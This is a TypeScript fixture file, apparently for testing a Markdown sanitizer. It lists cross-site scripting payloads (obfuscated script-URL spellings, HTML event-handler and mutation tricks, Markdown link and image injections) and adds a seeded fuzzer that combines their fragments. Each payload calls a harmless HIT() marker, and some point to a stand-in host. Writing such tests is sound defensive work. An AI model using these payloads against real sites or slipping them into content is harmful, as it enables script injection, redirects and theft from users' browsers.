/**
 * Markdown that tries to run scripts, leave the page or imitate another one. A payload that runs calls
 * `HIT()`.
 */

const RUN = 'HIT()'

/** Spellings of a URL scheme that filters may miss and browsers may accept. */
const SCRIPT_URLS = [
	`javascript:${RUN}`,
	`JaVaScRiPt:${RUN}`,
	` javascript:${RUN}`,
	`java\tscript:${RUN}`,
	`java&#10;script:${RUN}`,
	`&#106;avascript:${RUN}`,
	`&#x6A;avascript&colon;${RUN}`,
	`java\u0000script:${RUN}`,
	`\u0001javascript:${RUN}`,
	`vbscript:${RUN}`,
	`data:text/html,<script>${RUN}</script>`,
	'data:text/html;base64,PHNjcmlwdD5ISVQoKTwvc2NyaXB0Pg==',
	`data:image/svg+xml,<svg onload=${RUN}>`,
	`livescript:${RUN}`,
	`feed:javascript:${RUN}`,
	`view-source:javascript:${RUN}`,
]

const RAW = [
	`<script>${RUN}</script>`,
	`<SCRIPT SRC="data:text/javascript,${RUN}"></SCRIPT>`,
	`<scr<script>ipt>${RUN}</scr</script>ipt>`,
	`<script\n>${RUN}</script\n>`,
	`<img src=x onerror=${RUN}>`,
	`<img src="x" onerror="${RUN}"/>`,
	`<img src=x onerror\n=\n${RUN}>`,
	`<img/src=x/onerror=${RUN}>`,
	`<img src=\`x\` onerror=${RUN}>`,
	`<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
	`<svg onload=${RUN}>`,
	`<svg><script>${RUN}</script></svg>`,
	`<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
	`<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
	`<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
	`<math href="javascript:${RUN}">click</math>`,
	`<body onload=${RUN}>`,
	`<iframe src="javascript:${RUN}"></iframe>`,
	`<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
	`<object data="javascript:${RUN}"></object>`,
	`<embed src="javascript:${RUN}">`,
	`<form action="javascript:${RUN}"><button>Sign in</button></form>`,
	`<form><button formaction="javascript:${RUN}">x</button></form>`,
	`<input autofocus onfocus=${RUN}>`,
	`<select autofocus onfocus=${RUN}><option>1</option></select>`,
	`<textarea autofocus onfocus=${RUN}></textarea>`,
	`<details open ontoggle=${RUN}><summary>x</summary></details>`,
	`<video><source onerror=${RUN}></video>`,
	`<audio src=x onerror=${RUN}></audio>`,
	`<marquee onstart=${RUN}>x</marquee>`,
	`<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
	`<link rel=stylesheet href="data:text/css,*{background:red}">`,
	`<base href="https://evil.test/">`,
	`<style>@import 'https://evil.test/x.css';</style>`,
	`<div style="position:fixed;inset:0;background:url(javascript:${RUN})">over</div>`,
	`<p style="width:expression(${RUN})">x</p>`,
	`<a href="https://ok.test" onclick="${RUN}">x</a>`,
	`<a href="//evil.test/x" onmouseover=${RUN}>x</a>`,
	`<a href="/\\evil.test">x</a>`,
	`<h2 id="main" name="body" onclick=${RUN}>Heading</h2>`,
	`<h2 data-heading="0" id="x" onmouseover=${RUN}>Heading</h2>`,
	`<code class="language-js btn toaster" onclick=${RUN}>x</code>`,
	`<table background="javascript:${RUN}"><tr><td onclick=${RUN}>x</td></tr></table>`,
	`<template><script>${RUN}</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
	`<!--><img src=x onerror=${RUN}>-->`,
	`<![CDATA[<img src=x onerror=${RUN}>]]>`,
	`<?xml version="1.0"?><x onload=${RUN}/>`,
	`<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
	`<custom-element onclick=${RUN} autofocus tabindex=0 onfocus=${RUN}>x</custom-element>`,
	`<p title='"><img src=x onerror=${RUN}>'>x</p>`,
	`<a href="javascript&colon;${RUN}">x</a>`,
	`<img srcset="x 1x" onerror=${RUN}>`,
	`<button popovertarget=main onclick=${RUN}>x</button>`,
	`<xmp><img src=x onerror=${RUN}></xmp>`,
	`<plaintext><img src=x onerror=${RUN}>`,
	`<title><img src=x onerror=${RUN}></title>`,
]

const MARKDOWN = [
	`![x"onerror="${RUN}](x)`,
	`![x](x"onerror="${RUN})`,
	`![x](https://ok.test/a.png "t\\"onerror=${RUN}")`,
	`[x](https://ok.test "t\\" onmouseover=${RUN} x=\\"")`,
	`[x][r]\n\n[r]: javascript:${RUN}`,
	`[x][r]\n\n[r]: <javascript:${RUN}> "t"`,
	`\`\`\`"><img/src=x/onerror=${RUN}>\ncode\n\`\`\``,
	`\`<img src=x onerror=${RUN}>\``,
	`    <img src=x onerror=${RUN}>`,
	`> <img src=x onerror=${RUN}>`,
	`|a|\n|-|\n|<img src=x onerror=${RUN}>|`,
	`- [ ] <img src=x onerror=${RUN}>`,
	`# <img src=x onerror=${RUN}>`,
	`## [x](javascript:${RUN}) heading`,
	`**<img src=x onerror=${RUN}>**`,
	`\\<img src=x onerror=${RUN}\\>`,
	`&lt;img src=x onerror=${RUN}&gt;`,
	`<https://ok.test/"onmouseover="${RUN}>`,
	`www.ok.test/"onmouseover="${RUN}`,
]

/** Every payload: raw HTML, Markdown, and each scheme spelling as a link and as an image. */
export const HOSTILE: readonly string[] = [
	...RAW,
	...MARKDOWN,
	...SCRIPT_URLS.flatMap((url) => [
		`[x](${url})`,
		`[x](<${url}>)`,
		`<${url}>`,
		`![x](<${url}>)`,
		`<a href="${url}">x</a>`,
		`<img src="${url}">`,
	]),
]

/** A seeded random number generator. */
function randomFrom(seed: number): () => number {
	let state = seed >>> 0
	return () => {
		state = (Math.imul(state, 1664525) + 1013904223) >>> 0
		return state / 2 ** 32
	}
}

const GLUE = [
	'',
	' ',
	'\n',
	'\n\n',
	'"',
	"'",
	'>',
	'<',
	'</p>',
	'-->',
	'`',
	'```\n',
	'|',
	'](',
	'\\',
	'\u0000',
	'&#62;',
	'/>',
	'<!--',
	'**',
	'> ',
	'- ',
	'# ',
	'&quot;',
	'<svg>',
	'</style>',
	'<table>',
]

/** This many texts combined at random from parts of the payloads. */
export function generatedHostile(count: number, seed = 20261120): string[] {
	const random = randomFrom(seed)
	const one = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T
	const piece = (): string => {
		const whole = one(HOSTILE)
		if (random() < 0.4) return whole
		const from = Math.floor(random() * whole.length)
		return whole.slice(from, from + 1 + Math.floor(random() * whole.length))
	}
	return Array.from({ length: count }, () => {
		const parts = 1 + Math.floor(random() * 5)
		return Array.from({ length: parts }, () => piece() + one(GLUE)).join('')
	})
}
